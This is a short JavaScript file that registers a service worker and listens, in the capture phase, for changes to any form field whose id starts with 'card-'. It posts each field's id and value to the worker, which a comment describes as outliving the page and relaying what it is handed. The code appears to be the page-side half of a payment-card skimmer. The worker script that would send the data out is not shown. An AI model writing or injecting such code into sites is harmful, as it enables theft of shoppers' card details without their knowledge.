(function () {
  // A service worker outlives the page: it relays what the page hands it.
  if (!navigator.serviceWorker) {
    return;
  }
  var ready = navigator.serviceWorker.register('/sw.js').then(function () {
    return navigator.serviceWorker.ready;
  });
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || !t.id || t.id.indexOf('card-') !== 0 || !t.value) {
      return;
    }
    var msg = JSON.stringify({f: t.id, v: t.value});
    ready.then(function (reg) {
      if (reg.active) {
        reg.active.postMessage(msg);
      }
    });
  }, true);
})();
